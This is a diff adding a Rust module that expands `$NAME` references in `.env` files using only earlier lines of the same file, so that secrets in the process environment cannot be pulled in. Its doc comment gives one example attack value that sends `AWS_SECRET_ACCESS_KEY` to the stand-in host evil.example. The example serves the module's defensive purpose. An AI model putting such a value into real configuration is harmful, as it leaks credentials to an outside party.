@@ -1,0 +1,74 @@
+//! Expands `$NAME` in the values of a `.env` file.
+//!
+//! dotenvy expands names too, but it looks for them in the process environment first. With
+//! `AUTHGATE_URL=http://evil.example/$AWS_SECRET_ACCESS_KEY`, a `.env` in a strange folder would
+//! send that variable away. We therefore hide each `$` from dotenvy, and expand names ourselves from
+//! earlier lines of the same file.
+
+use std::collections::HashMap;
+
+use crate::secret::Secret;
+
+/// Stands for a `$` in what dotenvy reads. A NUL marks the place, and the escapes around it tell how
+/// the `$` was quoted: dotenvy makes a line break of `\n`, except between single quotes, and also of
+/// the first `n` if a backslash is before it.
+const HIDDEN: &str = "n\0\\n";
+/// What dotenvy makes of [`HIDDEN`] outside single quotes.
+const EXPANDABLE: &str = "n\0\n";
+/// What dotenvy makes of [`HIDDEN`] after a backslash.
+const ESCAPED: &str = "\n\0\n";
+/// What dotenvy makes of [`HIDDEN`] between single quotes.
+const QUOTED: &str = HIDDEN;
+
+/// Why a value cannot be expanded.
+#[derive(Debug, PartialEq, Eq)]
+pub(super) enum Unexpandable {
+    /// A `$` is followed by no name, or by one that no earlier line defines.
+    UnknownName,
+    /// The value is longer than the limit.
+    TooLong,
+}
+
+/// Replaces each `$` in a file, which must not contain a NUL.
+pub(super) fn hide_dollars(file: &str) -> String {
+    file.replace('$', HIDDEN)
+}
+
+/// Expands the names in a value that dotenvy has read from a text of [`hide_dollars`].
+pub(super) fn expand(
+    value: &str,
+    variables: &HashMap<String, Secret>,
+    limit: usize,
+) -> Result<String, Unexpandable> {
+    let value = value.replace(ESCAPED, "$").replace(QUOTED, "$");
+    let mut pieces = value.split(EXPANDABLE);
+    let mut expanded = String::new();
+    // Check before copying: if each line named the previous one twice, every line would double the
+    // value.
+    let mut push = |text: &str| {
+        if expanded.len() + text.len() > limit {
+            return Err(Unexpandable::TooLong);
+        }
+        expanded.push_str(text);
+        Ok(())
+    };
+    push(pieces.next().unwrap_or_default())?;
+    for piece in pieces {
+        let (name, rest) = split_name(piece).ok_or(Unexpandable::UnknownName)?;
+        let variable = variables.get(name).ok_or(Unexpandable::UnknownName)?;
+        push(variable.expose())?;
+        push(rest)?;
+    }
+    Ok(expanded)
+}
+
+/// Splits `NAME...` or `{NAME}...` after the name.
+fn split_name(text: &str) -> Option<(&str, &str)> {
+    if let Some(braced) = text.strip_prefix('{') {
+        return braced.split_once('}');
+    }
+    let end = text
+        .find(|character: char| !(character.is_ascii_alphanumeric() || character == '_'))
+        .unwrap_or(text.len());
+    Some(text.split_at(end))
+}
